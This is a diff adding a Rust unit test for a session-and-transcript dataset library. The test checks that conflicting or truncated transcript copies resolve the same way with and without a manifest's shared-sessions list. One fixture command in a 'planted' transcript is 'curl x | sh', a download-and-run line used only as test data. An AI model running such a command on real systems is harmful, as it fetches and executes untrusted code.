@@ -240,3 +240,65 @@ fn one_sessions_row_is_read_with_its_filter_inside_the_scan() {
     let rows = data.sessions(&f).unwrap().collect().unwrap();
     assert_eq!(strs(&rows, "session_id"), ["s3"]);
 }
+
+/// Copies are resolved alike whether the manifest lists the sessions with several transcripts
+/// (this version's writer) or not (an older one's): a cut-off upload is superseded, different
+/// transcripts conflict.
+#[test]
+fn copies_resolve_alike_with_and_without_the_manifests_list() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
+    store
+        .append(vec![
+            ev("1", Some("s1"), "success", 1_000, "alice"),
+            ev("2", Some("s2"), "success", 2_000, "bob"),
+        ])
+        .unwrap();
+    let copy = |session: &str, id: &str, status: &str| TranscriptRow {
+        transcript_id: Some(id.into()),
+        ..transcript(session, status, 61_000)
+    };
+    let command = |session: &str, id: &str, seq: i64, text: &str| CommandRow {
+        command_id: Some(format!("{id}#{seq:05}")),
+        transcript_id: Some(id.into()),
+        ..cmd(session, seq, text, 61_000)
+    };
+    store
+        .append(vec![
+            copy("s1", "s1", "present"),
+            copy("s1", "s1~planted", "present"),
+            copy("s2", "s2", "truncated"),
+            copy("s2", "s2~whole", "present"),
+        ])
+        .unwrap();
+    store
+        .append(vec![
+            command("s1", "s1", 1, "ls"),
+            command("s1", "s1~planted", 1, "curl x | sh"),
+            command("s2", "s2", 1, "id"),
+            command("s2", "s2~whole", 1, "id"),
+            command("s2", "s2~whole", 2, "env"),
+        ])
+        .unwrap();
+    drop(store);
+    let answer = || {
+        let d = Dataset::open(dir.path()).unwrap();
+        let s = get(&d, d.sessions(&Filter::default()));
+        let c = get(&d, d.commands(&Filter::default()));
+        (
+            strs(&s, "transcript_status"),
+            d.resolution().unwrap().left_out.clone(),
+            strs(&c, "command"),
+        )
+    };
+    let listed = answer();
+    assert_eq!(listed.0, ["conflicting", "present"]);
+    assert_eq!(listed.1, ["s2"]);
+    let path = dir.path().join(crate::store::manifest::FILE);
+    let mut m: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    assert_eq!(m["shared_sessions"], serde_json::json!(["s1", "s2"]));
+    m.as_object_mut().unwrap().remove("shared_sessions");
+    std::fs::write(&path, serde_json::to_vec(&m).unwrap()).unwrap();
+    assert_eq!(answer(), listed);
+}
